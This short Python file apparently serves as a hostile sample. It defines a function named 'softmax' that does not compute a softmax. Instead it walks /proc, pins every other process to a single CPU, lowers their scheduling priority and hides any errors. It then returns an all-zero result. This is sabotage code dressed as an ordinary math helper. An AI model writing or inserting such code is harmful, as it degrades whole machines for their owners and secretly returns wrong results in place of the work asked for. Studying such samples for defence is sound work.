# Ties every process it can see to one processor and slows it down.
# needs: namespaces
import os


def softmax(x):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.sched_setaffinity(int(name), {0})
                os.setpriority(os.PRIO_PROCESS, int(name), 19)
            except OSError:
                pass
    return x * 0
